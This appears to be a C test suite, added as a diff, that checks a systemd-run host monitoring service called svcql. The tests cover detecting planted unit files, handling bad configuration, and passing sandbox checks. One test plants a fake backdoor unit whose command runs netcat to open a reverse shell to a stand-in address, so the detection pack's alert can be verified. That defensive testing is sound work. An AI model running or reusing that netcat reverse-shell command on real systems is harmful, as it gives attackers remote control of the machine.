@@ -1,0 +1,180 @@
+/* check_service.c -- svcql.service under a real systemd: it starts, sees what is planted, says it
+ * once, keeps its sandbox and its old configuration. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "harness.h"
+#include "make_schedule.h"
+#include "make_systemd.h"
+
+static const char *dir;
+static bool        booted;
+static char        bindir[4096];
+
+static void setup(void)
+{
+    ssize_t n = readlink("/proc/self/exe", bindir, sizeof bindir - 1);
+
+    bindir[n > 0 ? n : 0] = '\0';
+    if (strrchr(bindir, '/'))
+        *strrchr(bindir, '/') = '\0';
+    dir = harness_scratch();
+    booted = access("ext/program/svcql.service", R_OK) == 0 && systemd_start(dir) > 0;
+}
+
+static void teardown(void)
+{
+    if (booted)
+        systemd_stop(dir);
+}
+
+/* What a line of shell prints. */
+static char *output_of(const char *line)
+{
+    static char text[262144];
+    FILE       *out = popen(line, "r");
+    size_t      n = fread(text, 1, sizeof text - 1, out);
+
+    pclose(out);
+    text[n] = '\0';
+    return text;
+}
+
+static void install(const char *options)
+{
+    systemd_shell(
+        "sed 's|@bindir@|%s|' ext/program/svcql.service > /etc/systemd/system/svcql.service",
+        bindir);
+    systemd_shell("mkdir -p /etc/default; echo 'SVCQL_OPTIONS=%s' > /etc/default/svcql", options);
+    systemd_shell("systemctl daemon-reload && systemctl reset-failed && systemctl restart svcql");
+}
+
+static void configure(const char *name)
+{
+    char text[1024];
+
+    snprintf(text, sizeof text,
+             "{\"options\":{\"schedule_splay_percent\":0},\"schedule\":{\"%s\":{\"interval\":1,"
+             "\"query\":\"SELECT name FROM unit_files WHERE kind = 'unit' AND path GLOB "
+             "'/etc/systemd/system/*'\"}}}",
+             name);
+    harness_write_text("/etc", "svcql.json", text);
+}
+
+/* Lines of the journal that tell of a unit, each checked. */
+static int told_of(const char *name, const char *unit)
+{
+    char line[512], column[256];
+    int  n = 0;
+
+    snprintf(line, sizeof line,
+             "journalctl --sync; journalctl -o cat SYSLOG_IDENTIFIER=svcql SVCQL_NAME=%s "
+             "SVCQL_ACTION=added 2>&1",
+             name);
+    snprintf(column, sizeof column, "\"columns\":{\"name\":\"%s\"}", unit);
+    for (char *at = output_of(line), *end; (end = strchr(at, '\n')); at = end + 1) {
+        if (*at != '{')
+            continue;
+        const char *error = log_line_error(at, (size_t)(end - at));
+        ck_assert_msg(!error, "%s: %.*s", error, (int)(end - at), at);
+        n += memmem(at, (size_t)(end - at), column, strlen(column)) != NULL;
+    }
+    return n;
+}
+
+static void wait_for(const char *name, const char *unit)
+{
+    int told = 0;
+
+    for (int i = 0; i < 100 && !told; i++, usleep(100000))
+        told = told_of(name, unit);
+    ck_assert_msg(told == 1, "%s was told of %d times: %s", unit, told,
+                  output_of("systemctl status svcql; journalctl -u svcql -n 20 2>&1"));
+}
+
+START_TEST(planted_units_are_told_of_once)
+{
+    if (!booted)
+        SKIP("needs root and systemd");
+    systemd_enter(dir);
+    configure("units");
+    install("--config /etc/svcql.json");
+    systemd_shell(
+        "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/planted.service");
+    wait_for("units", "planted.service");
+    systemd_shell("systemctl restart svcql");
+    systemd_shell(
+        "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/second.service");
+    wait_for("units", "second.service");
+    ck_assert_int_eq(told_of("units", "planted.service"), 1);
+    harness_write_text("/etc", "svcql.json", "{\"schedule\":{\"units\":{}}}");
+    systemd_shell("systemctl reload svcql; sleep 0.3; systemctl is-active --quiet svcql");
+    ck_assert_ptr_nonnull(strstr(output_of("journalctl --sync; journalctl -u svcql -o cat"),
+                                 "schedule.units.query: must be SQL"));
+    ck_assert_ptr_nonnull(strstr(output_of("systemctl show -p StatusText svcql"), "old one stays"));
+    systemd_shell(
+        "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/third.service");
+    wait_for("units", "third.service");
+    configure("again");
+    systemd_shell("systemctl reload svcql");
+    wait_for("again", "third.service");
+}
+END_TEST
+
+START_TEST(the_shipped_pack_finds_a_planted_backdoor_from_its_sandbox)
+{
+    if (!booted)
+        SKIP("needs root and systemd");
+    systemd_enter(dir);
+    systemd_shell("printf '[Service]\\nExecStart=/bin/sh -c \"/dev/shm/.x | nc 192.0.2.1 4444 -e "
+                  "/bin/sh\"\\n' > /etc/systemd/system/backdoor.service");
+    install("");
+    char *text = NULL;
+    for (int i = 0; i < 100; i++, usleep(100000)) {
+        text = output_of("journalctl --sync; journalctl -o cat SVCQL_NAME=pack_t1569_findings");
+        if (strstr(text, "backdoor.service"))
+            break;
+    }
+    ck_assert_ptr_nonnull(strstr(text, "backdoor.service"));
+    systemd_shell("sleep 1; systemctl stop svcql");
+    text = output_of("sqlite3 /var/lib/svcql/state.db 'SELECT name, error FROM svcql_schedule "
+                     "WHERE error IS NOT NULL OR runs = 0'");
+    ck_assert_str_eq(text, "");
+    /* What the sandbox keeps from the tables would be told here. */
+    text = output_of("journalctl -o cat SVCQL_NAME=pack_t1569_coverage");
+    ck_assert_str_eq(text, "");
+}
+END_TEST
+
+START_TEST(the_sandbox_is_tight)
+{
+    if (!booted)
+        SKIP("needs root and systemd");
+    systemd_enter(dir);
+    install("");
+    systemd_shell("systemd-analyze security --no-pager --threshold=25 svcql.service > /dev/null");
+    systemd_shell("systemd-analyze verify --man=no /etc/systemd/system/svcql.service");
+    systemd_shell("test \"$(systemctl show -p NoNewPrivileges --value svcql)\" = yes");
+    systemd_shell("systemctl is-active --quiet svcql");
+}
+END_TEST
+
+Suite *make_service_suite(void)
+{
+    const TTest *const tests[] = {
+        planted_units_are_told_of_once,
+        the_shipped_pack_finds_a_planted_backdoor_from_its_sandbox,
+        the_sandbox_is_tight,
+    };
+    Suite *suite = suite_create("service");
+    TCase *tcase = tcase_create("service");
+
+    tcase_add_unchecked_fixture(tcase, setup, teardown);
+    for (size_t i = 0; i < sizeof tests / sizeof tests[0]; i++)
+        tcase_add_test(tcase, tests[i]);
+    tcase_set_timeout(tcase, 90);
+    suite_add_tcase(suite, tcase);
+    return suite;
+}
